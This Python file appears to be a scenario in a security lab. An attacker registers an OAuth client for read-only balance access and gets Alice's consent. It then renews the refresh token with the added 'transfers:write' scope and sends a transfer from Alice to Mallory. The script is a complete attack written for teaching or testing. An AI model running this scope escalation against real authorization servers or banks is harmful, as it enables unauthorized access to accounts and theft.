"""An app that may look renews its token, and asks for a little more."""

from labs.stage import Stage, Stuck
from labs.steps import step

SCOPE = "balance:read offline_access"
METADATA = {
    "client_name": "Recipes",
    "scope": SCOPE,
    "grant_types": ["authorization_code", "refresh_token"],
    "token_endpoint_auth_method": "none",
}
ORDER = {"from_account": "alice-current", "to_account": "mallory-current", "amount": 100, "reference": "At night"}


@step("attacker")
def registers_an_app(stage: Stage) -> None:
    """Register an app that wants to look, and to stay connected; make its request for Alice."""
    redirect_uri = f"{stage.here.attacker}/collect"
    answer = stage.attacker.ask(
        "POST", f"{stage.here.auth}/register", json=METADATA | {"redirect_uris": [redirect_uri]}
    )
    if answer.status_code != 201:
        raise Stuck("Bank ID registers no client")
    stage.kept["client_id"] = answer.json()["client_id"]
    stage.onward = stage.link(stage.kept["client_id"], redirect_uri, scope=SCOPE)


@step("Alice")
def alice_lets_it_look(stage: Stage) -> None:
    """Let the app look at the balance and stay connected: sign in as alice, read what it may do, and allow."""
    if not stage.onward:
        raise Stuck("there is no app yet")
    stage.alice.go(stage.onward).agree()
    stage.onward = ""


@step("attacker")
def renews_its_token_with_more(stage: Stage) -> None:
    """Redeem the code; then, at night, renew the token with `scope=transfers:write`."""
    code = stage.collection.newest("code")
    if not code:
        raise Stuck("no code came to the app")
    client = {"client_id": stage.kept["client_id"]}
    redirect_uri, verifier = f"{stage.here.attacker}/collect", stage.kept["verifier"]
    stage.attacker.redeem(code, redirect_uri=redirect_uri, code_verifier=verifier, **client)
    refresh_token = stage.collection.newest("refresh_token")
    stage.kept["token"] = stage.attacker.token(
        grant_type="refresh_token", refresh_token=refresh_token, scope="transfers:write", **client
    )


@step("attacker")
def moves_money(stage: Stage) -> None:
    """Order a transfer from Alice's account to Mallory's with what came back."""
    name = {"Idempotency-Key": stage.kept.get("verifier", "at night")}
    stage.attacker.bank("POST", "/transfers", stage.kept.get("token", ""), json=ORDER, headers=name)
